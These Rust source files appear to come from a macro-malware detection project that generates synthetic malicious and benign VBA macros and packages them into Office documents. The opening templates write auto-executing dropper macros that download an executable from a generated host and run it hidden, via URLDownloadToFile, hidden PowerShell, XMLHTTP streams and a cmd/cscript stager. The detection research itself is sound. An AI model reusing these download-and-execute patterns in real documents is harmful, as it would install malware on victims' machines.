    format!("http://{host}.{tld}/{file}.exe")
}

fn temp_path<R: Rng + ?Sized>(rng: &mut R) -> String {
    let name: String = (0..rng.gen_range(5..10))
        .map(|_| (b'a' + rng.gen_range(0u8..26)) as char)
        .collect();
    format!("\\{name}.exe")
}

fn url_download<R: Rng + ?Sized>(rng: &mut R, trigger: &str, url: &str) -> String {
    let path = temp_path(rng);
    format!(
        "Attribute VB_Name = \"ThisDocument\"\r\n\
         Private Declare Function URLDownloadToFile Lib \"urlmon\" Alias \"URLDownloadToFileA\" \
         (ByVal pCaller As Long, ByVal szURL As String, ByVal szFileName As String, \
         ByVal dwReserved As Long, ByVal lpfnCB As Long) As Long\r\n\
         \r\n\
         Sub {trigger}()\r\n\
         \x20   Dim dest As String\r\n\
         \x20   dest = Environ(\"TEMP\") & \"{path}\"\r\n\
         \x20   URLDownloadToFile 0, \"{url}\", dest, 0, 0\r\n\
         \x20   Shell dest, vbHide\r\n\
         End Sub\r\n"
    )
}

fn powershell<R: Rng + ?Sized>(rng: &mut R, trigger: &str, url: &str) -> String {
    let sh = pick(rng, &["sh", "wsh", "runner", "launcher"]);
    let path = temp_path(rng);
    format!(
        "Attribute VB_Name = \"ThisDocument\"\r\n\
         Sub {trigger}()\r\n\
         \x20   Dim {sh} As Object\r\n\
         \x20   Set {sh} = CreateObject(\"WScript.Shell\")\r\n\
         \x20   {sh}.Run \"powershell -WindowStyle Hidden -Command (New-Object \
         Net.WebClient).DownloadFile('{url}', $env:TEMP + '{path}'); Start-Process \
         ($env:TEMP + '{path}')\", 0, False\r\n\
         End Sub\r\n"
    )
}

fn xmlhttp_stream<R: Rng + ?Sized>(rng: &mut R, trigger: &str, url: &str) -> String {
    let http = pick(rng, &["req", "http", "client"]);
    let stream = pick(rng, &["st", "strm", "bin"]);
    let path = temp_path(rng);
    format!(
        "Attribute VB_Name = \"ThisDocument\"\r\n\
         Sub {trigger}()\r\n\
         \x20   Dim {http} As Object\r\n\
         \x20   Dim {stream} As Object\r\n\
         \x20   Set {http} = CreateObject(\"MSXML2.XMLHTTP\")\r\n\
         \x20   {http}.Open \"GET\", \"{url}\", False\r\n\
         \x20   {http}.Send\r\n\
         \x20   Set {stream} = CreateObject(\"ADODB.Stream\")\r\n\
         \x20   {stream}.Type = 1\r\n\
         \x20   {stream}.Open\r\n\
         \x20   {stream}.Write {http}.responseBody\r\n\
         \x20   {stream}.SaveToFile Environ(\"TEMP\") & \"{path}\", 2\r\n\
         \x20   Shell Environ(\"TEMP\") & \"{path}\", vbHide\r\n\
         End Sub\r\n"
    )
}

fn cmd_dropper<R: Rng + ?Sized>(rng: &mut R, trigger: &str, url: &str) -> String {
    let fnum = rng.gen_range(1..5);
    let path = temp_path(rng);
    format!(
        "Attribute VB_Name = \"ThisDocument\"\r\n\
         Sub {trigger}()\r\n\
         \x20   Dim script As String\r\n\
         \x20   script = Environ(\"TEMP\") & \"\\get.vbs\"\r\n\
         \x20   Open script For Output As #{fnum}\r\n\
         \x20   Print #{fnum}, \"Set x = CreateObject(\"\"MSXML2.XMLHTTP\"\")\"\r\n\
         \x20   Print #{fnum}, \"x.Open \"\"GET\"\", \"\"{url}\"\", False\"\r\n\
         \x20   Print #{fnum}, \"x.Send\"\r\n\
         \x20   Close #{fnum}\r\n\
         \x20   Shell \"cmd /c cscript \" & script & \" && start %TEMP%{path}\", vbHide\r\n\
         End Sub\r\n"
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn all_families_have_autoexec_triggers_and_payload_urls() {
        let mut rng = StdRng::seed_from_u64(1);
        for _ in 0..40 {
            let m = generate(&mut rng);
            assert!(m.contains("http://"), "{m}");
            let has_trigger = ["Document_Open", "AutoOpen", "Workbook_Open", "Auto_Open"]
                .iter()
                .any(|t| m.contains(t));
            assert!(has_trigger);
            assert!(m.len() >= 150, "must survive the length filter");
        }
    }

    #[test]
    fn macros_are_lexable() {
        let mut rng = StdRng::seed_from_u64(2);
        for _ in 0..20 {
            let m = generate(&mut rng);
            let a = vbadet_vba::MacroAnalysis::new(&m);
            assert!(!a.procedure_names().is_empty() || m.contains("Declare Function"));
            assert!(!a.strings().is_empty());
        }
    }

    #[test]
    fn rich_function_usage_is_present() {
        let mut rng = StdRng::seed_from_u64(3);
        let mut rich_seen = 0;
        for _ in 0..40 {
            let m = generate(&mut rng);
            let a = vbadet_vba::MacroAnalysis::new(&m);
            if a.call_sites()
                .iter()
                .any(|c| vbadet_vba::functions::categorize(c).is_some())
            {
                rich_seen += 1;
            }
        }
        assert!(
            rich_seen > 30,
            "droppers should call rich builtins: {rich_seen}/40"
        );
    }
}
