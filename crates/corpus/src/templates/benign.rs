//! Benign macro generation: the automation code real users write — cell
//! formatting, report building, mail merges, file exports, validation.
//!
//! Figure 5(a) of the paper shows benign code lengths roughly uniform over a
//! wide range, so generation takes a target length and appends realistic
//! procedures until it is reached.

use super::{business_name, pick, variable_name};
use rand::Rng;

/// Generates one benign macro module of roughly `target_len` characters
/// (always at least ~160 so it survives the paper's 150-byte filter).
///
/// Around a third of modules come from "hard" families — macro-recorder
/// output, embedded data blobs, terse legacy code — which *look* messy
/// (long lines, high entropy, unreadable words) without using obfuscation
/// mechanisms. These are what separate the appearance-based J features from
/// the mechanism-based V features in the paper's comparison.
pub fn generate<R: Rng + ?Sized>(rng: &mut R, target_len: usize) -> String {
    let module_name = format!("Module{}", rng.gen_range(1..40));
    let mut out = format!("Attribute VB_Name = \"{module_name}\"\r\n");
    if rng.gen_bool(0.4) {
        out.push_str("Option Explicit\r\n");
    }
    // A salt comment keeps organically similar modules distinct, the way
    // real modules carry author/date headers.
    out.push_str(&format!(
        "' {} automation, revision {}\r\n",
        business_name(rng, false),
        rng.gen_range(1..4000)
    ));
    // Module-level declarations: constants, shared state, API prototypes.
    if rng.gen_bool(0.5) {
        for _ in 0..rng.gen_range(1..6) {
            match rng.gen_range(0..4) {
                0 => out.push_str(&format!(
                    "Private Const {} = \"{}\"\r\n",
                    variable_name(rng),
                    business_name(rng, true),
                )),
                1 => out.push_str(&format!(
                    "Public Const {} = {}\r\n",
                    variable_name(rng),
                    rng.gen_range(1..10_000),
                )),
                2 => out.push_str(&format!("Dim {} As String\r\n", variable_name(rng))),
                _ => out.push_str(&format!(
                    "Private Const {} = \"{}\\{}.{}\"\r\n",
                    variable_name(rng),
                    pick(rng, &["C:\\Reports", "\\\\share\\finance", "D:\\Data"]),
                    variable_name(rng),
                    pick(rng, &["csv", "xlsx", "txt"]),
                )),
            }
        }
    }
    if rng.gen_bool(0.15) {
        out.push_str(pick(rng, &[
            "Private Declare Function GetUserNameA Lib \"advapi32.dll\" (ByVal lpBuffer As String, nSize As Long) As Long\r\n",
            "Private Declare Sub Sleep Lib \"kernel32\" (ByVal dwMilliseconds As Long)\r\n",
            "Private Declare Function GetTickCount Lib \"kernel32\" () As Long\r\n",
        ]));
    }
    let style = rng.gen_range(0..100);
    while out.len() < target_len.max(160) {
        let proc = if style < 12 {
            recorded_macro_proc(rng)
        } else if style < 22 {
            data_blob_proc(rng)
        } else if style < 31 {
            terse_legacy_proc(rng)
        } else if style < 39 {
            localization_table_proc(rng)
        } else if style < 47 {
            generated_accessor_proc(rng)
        } else {
            match rng.gen_range(0..13) {
                0 => formatting_proc(rng),
                1 => report_proc(rng),
                2 => email_proc(rng),
                3 => export_proc(rng),
                4 => validation_proc(rng),
                5 => helper_function(rng),
                6 => string_utility_proc(rng),
                7 => concat_builder_proc(rng),
                8 => long_argument_proc(rng),
                9 => chart_proc(rng),
                10 => file_io_proc(rng),
                11 => userform_handler_proc(rng),
                _ => loop_proc(rng),
            }
        };
        out.push_str(&proc);
    }
    out
}

/// Macro-recorder output: `Macro1`-style names, `Selection.*` chains, long
/// R1C1 formula strings and ODBC connection strings with high-entropy
/// credentials. No comments, machine-flavored.
fn recorded_macro_proc<R: Rng + ?Sized>(rng: &mut R) -> String {
    let n = rng.gen_range(1..60);
    let mut body = String::new();
    for _ in 0..rng.gen_range(3..9) {
        match rng.gen_range(0..4) {
            0 => {
                let formula: String = (0..rng.gen_range(3..12))
                    .map(|_| {
                        format!(
                            "SUM(R[{}]C[{}]:R[{}]C[{}])+",
                            rng.gen_range(1..40),
                            rng.gen_range(1..12),
                            rng.gen_range(40..99),
                            rng.gen_range(1..12)
                        )
                    })
                    .collect();
                body.push_str(&format!(
                    "    ActiveCell.FormulaR1C1 = \"={}0\"\r\n",
                    formula
                ));
            }
            1 => {
                let pwd: String = (0..rng.gen_range(12..24))
                    .map(|_| {
                        let set = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
                        set[rng.gen_range(0..set.len())] as char
                    })
                    .collect();
                body.push_str(&format!(
                    "    conn = \"ODBC;DSN=WH{};UID=svc_report;PWD={};DATABASE=sales;APP=Microsoft Office;WSID=WS{:04}\"\r\n",
                    rng.gen_range(1..9), pwd, rng.gen_range(1..9999)
                ));
            }
            2 => {
                body.push_str(&format!(
                    "    Range(\"{}{}:{}{}\").Select\r\n    Selection.Copy\r\n    \
                     Selection.PasteSpecial Paste:=xlPasteValues, Operation:=xlNone, \
                     SkipBlanks:=False, Transpose:=False\r\n",
                    (b'A' + rng.gen_range(0u8..20)) as char,
                    rng.gen_range(1..200),
                    (b'A' + rng.gen_range(0u8..20)) as char,
                    rng.gen_range(200..900),
                ));
            }
            _ => {
                body.push_str(&format!(
                    "    Selection.NumberFormat = \"#,##0.{};[Red](#,##0.{})\"\r\n    \
                     With Selection.Interior\r\n        .ColorIndex = {}\r\n        \
                     .Pattern = xlSolid\r\n    End With\r\n",
                    "0".repeat(rng.gen_range(1..4)),
                    "0".repeat(rng.gen_range(1..4)),
                    rng.gen_range(1..56),
                ));
            }
        }
    }
    format!("\r\nSub Macro{n}()\r\n{body}End Sub\r\n")
}

/// Embedded data: base64-ish blobs, GUID tables, lookup keys — very long,
/// high-entropy lines in entirely benign code (license keys, embedded
/// images, config payloads).
fn data_blob_proc<R: Rng + ?Sized>(rng: &mut R) -> String {
    let name = business_name(rng, false);
    let var = variable_name(rng);
    let mut body = format!("    Dim {var} As String\r\n");
    for _ in 0..rng.gen_range(1..5) {
        match rng.gen_range(0..3) {
            0 => {
                let blob: String = (0..rng.gen_range(120..400))
                    .map(|_| {
                        let set =
                            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
                        set[rng.gen_range(0..set.len())] as char
                    })
                    .collect();
                body.push_str(&format!("    {var} = {var} & \"{blob}\"\r\n"));
            }
            1 => {
                let guid: String = (0..32)
                    .map(|i| {
                        let c = b"0123456789ABCDEF"[rng.gen_range(0..16)] as char;
                        if matches!(i, 8 | 12 | 16 | 20) {
                            format!("-{c}")
                        } else {
                            c.to_string()
                        }
                    })
                    .collect();
                body.push_str(&format!(
                    "    Worksheets(\"Keys\").Cells({}, 2).Value = \"{{{guid}}}\"\r\n",
                    rng.gen_range(1..300)
                ));
            }
            _ => {
                let pairs: String = (0..rng.gen_range(10..30))
                    .map(|_| format!("{:05}:{:X};", rng.gen_range(0..99999), rng.gen::<u32>()))
                    .collect();
                body.push_str(&format!("    {var} = \"{pairs}\"\r\n"));
            }
        }
    }
    format!("\r\nSub {name}()\r\n{body}End Sub\r\n")
}

/// Localization / lookup tables: dozens of short string assignments. Gives
/// benign code the "many short strings" shape that split obfuscation also
/// produces (J4 high, J8 low).
fn localization_table_proc<R: Rng + ?Sized>(rng: &mut R) -> String {
    let name = business_name(rng, false);
    let arr = pick(rng, &["labels", "msgs", "captions", "codes", "names"]);
    match rng.gen_range(0..3) {
        0 => {
            // Element-by-element table.
            let n = rng.gen_range(12..40);
            let mut body = format!("    Dim {arr}({n}) As String\r\n");
            for i in 0..n {
                let word: String = (0..rng.gen_range(2..8))
                    .map(|_| (b'a' + rng.gen_range(0u8..26)) as char)
                    .collect();
                body.push_str(&format!("    {arr}({i}) = \"{word}\"\r\n"));
            }
            format!("\r\nSub {name}()\r\n{body}End Sub\r\n")
        }
        1 => {
            // Array(...) initializer — a large-argument call, as benign code
            // writes it for month/label tables.
            let items: Vec<String> = (0..rng.gen_range(8..30))
                .map(|_| {
                    let w: String = (0..rng.gen_range(2..9))
                        .map(|_| (b'a' + rng.gen_range(0u8..26)) as char)
                        .collect();
                    format!("\"{w}\"")
                })
                .collect();
            format!(
                "\r\nSub {name}()\r\n    Dim {arr} As Variant\r\n    {arr} = Array({})\r\n\
                 End Sub\r\n",
                items.join(", ")
            )
        }
        _ => {
            // Split over one long packed literal.
            let packed: Vec<String> = (0..rng.gen_range(10..40))
                .map(|_| {
                    (0..rng.gen_range(2..9))
                        .map(|_| (b'a' + rng.gen_range(0u8..26)) as char)
                        .collect()
                })
                .collect();
            format!(
                "\r\nSub {name}()\r\n    Dim {arr} As Variant\r\n    \
                 {arr} = Split(\"{}\", \",\")\r\n\
                 End Sub\r\n",
                packed.join(",")
            )
        }
    }
}

/// Code-generator output: control-binding identifiers like
/// `ctl03_grdMain_txtQty`. Benign machine-made names are as unreadable as
/// O1's random names — exactly the J5/J15 ambiguity of real corpora.
fn generated_accessor_proc<R: Rng + ?Sized>(rng: &mut R) -> String {
    let suffix: String = (0..rng.gen_range(4..8))
        .map(|_| (b'a' + rng.gen_range(0u8..26)) as char)
        .collect();
    let name = format!("Bind_ctl{:02}_{suffix}", rng.gen_range(0..60));
    let mut body = String::new();
    for _ in 0..rng.gen_range(3..9) {
        let ctl: String = format!(
            "ctl{:02}_{}_{}{}",
            rng.gen_range(0..99),
            pick(rng, &["grd", "pnl", "frm", "tbl"]),
            pick(rng, &["txt", "lbl", "cmb", "chk"]),
            (0..rng.gen_range(3..7))
                .map(|_| (b'a' + rng.gen_range(0u8..26)) as char)
                .collect::<String>(),
        );
        body.push_str(&format!(
            "    Dim {ctl} As Variant\r\n    {ctl} = Sheets({}).Cells({}, {}).Value\r\n",
            rng.gen_range(1..5),
            rng.gen_range(1..400),
            rng.gen_range(1..30),
        ));
    }
    format!("\r\nSub {name}()\r\n{body}End Sub\r\n")
}

/// Decades-old utility code: single-letter variables, no comments, dense
/// arithmetic, GoTo-era structure. Reads poorly, is perfectly benign.
fn terse_legacy_proc<R: Rng + ?Sized>(rng: &mut R) -> String {
    let name = format!(
        "{}{}",
        pick(rng, &["fn", "sub", "p", "calc", "chk", "cnv"]),
        rng.gen_range(1..99)
    );
    let vars = ["i", "j", "k", "n", "s", "t", "x1", "x2", "q", "z"];
    let a = pick(rng, &vars);
    let b = pick(rng, &vars);
    let c = pick(rng, &vars);
    let mut body = format!("    Dim {a} As Long, {b} As Long, {c} As Double\r\n");
    for _ in 0..rng.gen_range(3..10) {
        match rng.gen_range(0..3) {
            0 => body.push_str(&format!(
                "    {c} = {c} * {} + {b} \\ {} - {a} Mod {}\r\n",
                rng.gen_range(2..9),
                rng.gen_range(2..9),
                rng.gen_range(2..9)
            )),
            1 => body.push_str(&format!(
                "    If {a} > {} Then {b} = {b} + 1 Else {b} = {b} - 1\r\n",
                rng.gen_range(10..999)
            )),
            _ => body.push_str(&format!(
                "    For {a} = 0 To {}: {c} = {c} + Cells({a} + 1, {}).Value: Next\r\n",
                rng.gen_range(5..99),
                rng.gen_range(1..9)
            )),
        }
    }
    format!("\r\nSub {name}()\r\n{body}End Sub\r\n")
}

fn formatting_proc<R: Rng + ?Sized>(rng: &mut R) -> String {
    let name = business_name(rng, false);
    let col = (b'A' + rng.gen_range(0u8..26)) as char;
    let width = rng.gen_range(8..40);
    let height = rng.gen_range(12..28);
    let var = variable_name(rng);
    format!(
        "\r\nSub {name}()\r\n\
         \x20   ' Adjust layout of the {col} column\r\n\
         \x20   Dim {var} As Range\r\n\
         \x20   Columns(\"{col}:{col}\").ColumnWidth = {width}\r\n\
         \x20   Rows(\"1:1\").RowHeight = {height}\r\n\
         \x20   Set {var} = Range(\"{col}1\")\r\n\
         \x20   {var}.Font.Bold = True\r\n\
         End Sub\r\n"
    )
}

fn report_proc<R: Rng + ?Sized>(rng: &mut R) -> String {
    let name = business_name(rng, false);
    let total = variable_name(rng);
    let row = variable_name(rng);
    let last = rng.gen_range(20..500);
    let sheet = pick(rng, &["Data", "Summary", "Input", "Raw", "Results"]);
    format!(
        "\r\nSub {name}()\r\n\
         \x20   Dim {total} As Double\r\n\
         \x20   Dim {row} As Long\r\n\
         \x20   For {row} = 2 To {last}\r\n\
         \x20       {total} = {total} + Worksheets(\"{sheet}\").Cells({row}, 3).Value\r\n\
         \x20   Next {row}\r\n\
         \x20   Worksheets(\"{sheet}\").Range(\"C1\").Value = {total}\r\n\
         End Sub\r\n"
    )
}

fn email_proc<R: Rng + ?Sized>(rng: &mut R) -> String {
    let name = business_name(rng, false);
    let app = variable_name(rng);
    let item = variable_name(rng);
    let subject = business_name(rng, false);
    format!(
        "\r\nSub {name}()\r\n\
         \x20   Dim {app} As Object\r\n\
         \x20   Dim {item} As Object\r\n\
         \x20   'Create Outlook object and send the summary\r\n\
         \x20   Set {app} = CreateObject(\"Outlook.Application\")\r\n\
         \x20   Set {item} = {app}.CreateItem(0)\r\n\
         \x20   With {item}\r\n\
         \x20       .To = Range(\"A1\").Value\r\n\
         \x20       .Subject = \"{subject}\"\r\n\
         \x20       .Body = Range(\"B1\").Value\r\n\
         \x20       .Display\r\n\
         \x20   End With\r\n\
         End Sub\r\n"
    )
}

fn export_proc<R: Rng + ?Sized>(rng: &mut R) -> String {
    let name = business_name(rng, false);
    let path = variable_name(rng);
    let file = pick(rng, &["report", "export", "summary", "backup", "output"]);
    let ext = pick(rng, &["csv", "txt", "xml"]);
    format!(
        "\r\nSub {name}()\r\n\
         \x20   Dim {path} As String\r\n\
         \x20   {path} = ThisWorkbook.Path & \"\\{file}.{ext}\"\r\n\
         \x20   ActiveSheet.Copy\r\n\
         \x20   ActiveWorkbook.SaveAs Filename:={path}, FileFormat:=6\r\n\
         \x20   ActiveWorkbook.Close False\r\n\
         End Sub\r\n"
    )
}

fn validation_proc<R: Rng + ?Sized>(rng: &mut R) -> String {
    let name = business_name(rng, false);
    let cell = variable_name(rng);
    let limit = rng.gen_range(10..10_000);
    let message = pick(
        rng,
        &["Value out of range", "Please check input", "Invalid entry"],
    );
    format!(
        "\r\nSub {name}()\r\n\
         \x20   Dim {cell} As Range\r\n\
         \x20   For Each {cell} In Selection.Cells\r\n\
         \x20       If {cell}.Value > {limit} Then\r\n\
         \x20           MsgBox \"{message}\"\r\n\
         \x20           {cell}.Interior.ColorIndex = 6\r\n\
         \x20       End If\r\n\
         \x20   Next {cell}\r\n\
         End Sub\r\n"
    )
}

fn helper_function<R: Rng + ?Sized>(rng: &mut R) -> String {
    let name = business_name(rng, false);
    let arg = variable_name(rng);
    let factor = rng.gen_range(2..12);
    format!(
        "\r\nFunction {name}({arg} As Double) As Double\r\n\
         \x20   ' Simple scaling helper used by the report sheet\r\n\
         \x20   {name} = Round({arg} * {factor} / 100, 2)\r\n\
         End Function\r\n"
    )
}

/// Legitimate heavy use of text builtins (`Mid`, `InStr`, `Replace`, `Chr`,
/// `UCase`…): parsing imported data is everyday benign macro work, and it
/// pressures the V8 feature exactly as real corpora do.
fn string_utility_proc<R: Rng + ?Sized>(rng: &mut R) -> String {
    let name = business_name(rng, false);
    let s = variable_name(rng);
    let part = variable_name(rng);
    let sep = pick(rng, &[";", ",", "|", "\\t"]);
    format!(
        "\r\nFunction {name}({s} As String) As String\r\n\
         \x20   Dim {part} As String\r\n\
         \x20   ' Normalize the imported field\r\n\
         \x20   {part} = Trim(Mid({s}, InStr({s}, \"{sep}\") + 1))\r\n\
         \x20   {part} = Replace({part}, Chr(9), \" \")\r\n\
         \x20   {part} = UCase(Left({part}, {})) & LCase(Mid({part}, {}))\r\n\
         \x20   {name} = {part}\r\n\
         End Function\r\n",
        rng.gen_range(1..3),
        rng.gen_range(2..4),
    )
}

/// Legitimate string building with `&` (CSV rows, SQL statements): raises
/// string-operator counts in benign code, pressuring V5/V6.
fn concat_builder_proc<R: Rng + ?Sized>(rng: &mut R) -> String {
    let name = business_name(rng, false);
    let line = variable_name(rng);
    let row = variable_name(rng);
    let last = rng.gen_range(10..200);
    let table = pick(rng, &["orders", "customers", "items", "ledger"]);
    format!(
        "\r\nSub {name}()\r\n\
         \x20   Dim {line} As String\r\n\
         \x20   Dim {row} As Long\r\n\
         \x20   For {row} = 2 To {last}\r\n\
         \x20       {line} = {line} & Cells({row}, 1).Value & \",\" & \
         Cells({row}, 2).Value & \",\" & Cells({row}, 3).Value & vbCrLf\r\n\
         \x20   Next {row}\r\n\
         \x20   {line} = \"INSERT INTO {table} VALUES ('\" & Range(\"B2\").Value & \"', '\" \
         & Range(\"C2\").Value & \"')\"\r\n\
         \x20   Debug.Print {line}\r\n\
         End Sub\r\n"
    )
}

/// Long literal arguments to calls: help text, error descriptions, SQL —
/// benign code routinely passes 100+-character strings into procedures.
fn long_argument_proc<R: Rng + ?Sized>(rng: &mut R) -> String {
    let name = business_name(rng, false);
    let words = [
        "please",
        "verify",
        "the",
        "input",
        "before",
        "submitting",
        "this",
        "form",
        "and",
        "contact",
        "support",
        "if",
        "values",
        "are",
        "missing",
        "from",
        "report",
        "sheet",
        "quarterly",
        "numbers",
        "must",
        "match",
        "ledger",
        "totals",
        "exactly",
    ];
    let mut msg = String::new();
    for _ in 0..rng.gen_range(15..40) {
        msg.push_str(words[rng.gen_range(0..words.len())]);
        msg.push(' ');
    }
    let title = business_name(rng, false);
    format!(
        "\r\nSub {name}()\r\n\
         \x20   If Range(\"A1\").Value = \"\" Then\r\n\
         \x20       MsgBox(\"{}\")\r\n\
         \x20       Err.Raise({}, \"{title}\", \"{} in cell A{}\")\r\n\
         \x20   End If\r\n\
         End Sub\r\n",
        msg.trim(),
        rng.gen_range(513..1000),
        msg.trim(),
        rng.gen_range(1..60),
    )
}

/// Chart construction, straight from real dashboard workbooks.
fn chart_proc<R: Rng + ?Sized>(rng: &mut R) -> String {
    let name = business_name(rng, false);
    let kind = pick(
        rng,
        &["xlColumnClustered", "xlLine", "xlPie", "xlBarStacked"],
    );
    let sheet = pick(rng, &["Data", "Summary", "Trends"]);
    format!(
        "\r\nSub {name}()\r\n\
         \x20   Dim cht As Object\r\n\
         \x20   Set cht = Charts.Add\r\n\
         \x20   cht.ChartType = {kind}\r\n\
         \x20   cht.SetSourceData Source:=Worksheets(\"{sheet}\").Range(\"A1:D{}\")\r\n\
         \x20   cht.HasTitle = True\r\n\
         \x20   cht.ChartTitle.Text = \"{}\"\r\n\
         End Sub\r\n",
        rng.gen_range(10..200),
        business_name(rng, false),
    )
}

/// Classic file I/O: `Open … For Output`, `Print #`, `Close` — the benign
/// twin of dropper-style file writes.
fn file_io_proc<R: Rng + ?Sized>(rng: &mut R) -> String {
    let name = business_name(rng, false);
    let fnum = rng.gen_range(1..5);
    let file = pick(rng, &["log", "audit", "snapshot", "changes"]);
    let row = variable_name(rng);
    format!(
        "\r\nSub {name}()\r\n\
         \x20   Dim {row} As Long\r\n\
         \x20   Open ThisWorkbook.Path & \"\\{file}.txt\" For Output As #{fnum}\r\n\
         \x20   For {row} = 1 To {}\r\n\
         \x20       Print #{fnum}, Cells({row}, 1).Value & \";\" & Cells({row}, 2).Value\r\n\
         \x20   Next {row}\r\n\
         \x20   Close #{fnum}\r\n\
         End Sub\r\n",
        rng.gen_range(10..400),
    )
}

/// UserForm event handlers: `_Click`/`_Change` procedures wired to controls.
fn userform_handler_proc<R: Rng + ?Sized>(rng: &mut R) -> String {
    let control = format!(
        "{}{}",
        pick(
            rng,
            &["cmdOk", "cmdCancel", "txtName", "cboRegion", "chkApproved"]
        ),
        rng.gen_range(1..9)
    );
    let event = pick(rng, &["Click", "Change"]);
    let target = variable_name(rng);
    format!(
        "\r\nPrivate Sub {control}_{event}()\r\n\
         \x20   If Me.{control}.Value = \"\" Then\r\n\
         \x20       MsgBox \"Please fill in {control}\"\r\n\
         \x20       Exit Sub\r\n\
         \x20   End If\r\n\
         \x20   {target} = Me.{control}.Value\r\n\
         \x20   Me.Hide\r\n\
         End Sub\r\n"
    )
}

fn loop_proc<R: Rng + ?Sized>(rng: &mut R) -> String {
    let name = business_name(rng, false);
    let i = variable_name(rng);
    let n = rng.gen_range(5..60);
    let sheet = pick(rng, &["Sheet1", "Sheet2", "Data", "Archive"]);
    format!(
        "\r\nSub {name}()\r\n\
         \x20   Dim {i} As Integer\r\n\
         \x20   Application.ScreenUpdating = False\r\n\
         \x20   For {i} = 1 To {n}\r\n\
         \x20       Worksheets(\"{sheet}\").Cells({i}, 1).Value = {i}\r\n\
         \x20   Next {i}\r\n\
         \x20   Application.ScreenUpdating = True\r\n\
         End Sub\r\n"
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn respects_target_length_roughly() {
        let mut rng = StdRng::seed_from_u64(1);
        for target in [200usize, 1000, 5000, 12000] {
            let m = generate(&mut rng, target);
            assert!(m.len() >= target, "target {target}, got {}", m.len());
            assert!(
                m.len() < target + 2000,
                "overshoot: {} for {target}",
                m.len()
            );
        }
    }

    #[test]
    fn modules_are_lexable_and_structured() {
        let mut rng = StdRng::seed_from_u64(2);
        for _ in 0..20 {
            let m = generate(&mut rng, 2000);
            let analysis = vbadet_vba::MacroAnalysis::new(&m);
            assert!(!analysis.procedure_names().is_empty());
            assert!(m.starts_with("Attribute VB_Name"));
        }
    }

    #[test]
    fn output_varies_between_calls() {
        let mut rng = StdRng::seed_from_u64(3);
        let a = generate(&mut rng, 500);
        let b = generate(&mut rng, 500);
        assert_ne!(a, b);
    }
}
