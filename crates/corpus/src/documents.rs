//! Document packaging: wraps generated macros in real container files so
//! the extraction pipeline (`vbadet-zip` → `vbadet-ole` → `vbadet-ovba`) is
//! exercised end-to-end, and Table II's file statistics can be regenerated.
//!
//! Following the paper's observation that benign macro documents were
//! OOXML (`.docm`/`.xlsm` collected from Google) while the majority of
//! malware is legacy `.doc`/`.xls`, benign files are packaged as OOXML/ZIP
//! and malicious files as OLE compound files.

use crate::macros::MacroSample;
use crate::spec::CorpusSpec;
use rand::rngs::StdRng;
use rand::Rng;
use rand::SeedableRng;
use vbadet_ole::OleBuilder;
use vbadet_ovba::VbaProjectBuilder;
use vbadet_zip::{CompressionMethod, ZipWriter};

/// Container type of a generated document.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum DocumentKind {
    /// Legacy Word (OLE, macros under `Macros/`).
    WordDoc,
    /// Legacy Excel (OLE, macros under `_VBA_PROJECT_CUR/`).
    ExcelXls,
    /// OOXML Word (ZIP with `word/vbaProject.bin`).
    WordDocm,
    /// OOXML Excel (ZIP with `xl/vbaProject.bin`).
    ExcelXlsm,
}

impl DocumentKind {
    /// Conventional file extension.
    pub fn extension(self) -> &'static str {
        match self {
            DocumentKind::WordDoc => "doc",
            DocumentKind::ExcelXls => "xls",
            DocumentKind::WordDocm => "docm",
            DocumentKind::ExcelXlsm => "xlsm",
        }
    }

    /// Whether this is a Word-family type (for Table II's Word/Excel split).
    pub fn is_word(self) -> bool {
        matches!(self, DocumentKind::WordDoc | DocumentKind::WordDocm)
    }
}

/// One generated document.
#[derive(Debug, Clone)]
pub struct DocumentFile {
    /// Synthetic file name (`benign_0007.xlsm`, `malicious_0123.doc`, …).
    pub name: String,
    /// Container type.
    pub kind: DocumentKind,
    /// Population the file belongs to.
    pub malicious: bool,
    /// Full container bytes.
    pub bytes: Vec<u8>,
    /// Names of the macro modules embedded (module name order).
    pub module_count: usize,
}

/// Aggregate statistics over generated files (Table II rows).
#[derive(Debug, Clone, Copy, PartialEq, Default)]
pub struct FileSummary {
    /// Word-family file count.
    pub word: usize,
    /// Excel-family file count.
    pub excel: usize,
    /// Total bytes across files.
    pub total_bytes: u64,
    /// File count.
    pub files: usize,
}

impl FileSummary {
    /// Mean file size in bytes.
    pub fn avg_size(&self) -> f64 {
        if self.files == 0 {
            0.0
        } else {
            self.total_bytes as f64 / self.files as f64
        }
    }

    fn add(&mut self, file: &DocumentFile) {
        if file.kind.is_word() {
            self.word += 1;
        } else {
            self.excel += 1;
        }
        self.total_bytes += file.bytes.len() as u64;
        self.files += 1;
    }
}

/// Builds document files from a spec and its macro set.
#[derive(Debug)]
pub struct DocumentFactory<'a> {
    spec: &'a CorpusSpec,
    macros: &'a [MacroSample],
}

impl<'a> DocumentFactory<'a> {
    /// Creates a factory over macros produced by
    /// [`crate::generate_macros`] with the same spec.
    pub fn new(spec: &'a CorpusSpec, macros: &'a [MacroSample]) -> Self {
        DocumentFactory { spec, macros }
    }

    /// Streams every document through `visit` (memory-friendly: at full
    /// paper scale the corpus is ~1 GB of container bytes). Returns
    /// `(benign_summary, malicious_summary)`.
    pub fn for_each<F: FnMut(&DocumentFile)>(&self, mut visit: F) -> (FileSummary, FileSummary) {
        let mut rng = StdRng::seed_from_u64(self.spec.seed ^ 0xD0C5);
        let benign: Vec<&MacroSample> = self.macros.iter().filter(|m| !m.malicious).collect();
        let malicious: Vec<&MacroSample> = self.macros.iter().filter(|m| m.malicious).collect();

        let mut benign_summary = FileSummary::default();
        let mut malicious_summary = FileSummary::default();

        // Benign: spread all macros across files (paper: 3,380 macros in
        // 773 files ⇒ ~4.4 modules per file), OOXML containers.
        let benign_files = self.spec.benign_word_files + self.spec.benign_excel_files;
        let mut cursor = 0usize;
        for i in 0..benign_files {
            let kind = if i < self.spec.benign_word_files {
                DocumentKind::WordDocm
            } else {
                DocumentKind::ExcelXlsm
            };
            // Distribute remaining macros evenly over remaining files.
            let remaining_files = benign_files - i;
            let remaining_macros = benign.len().saturating_sub(cursor);
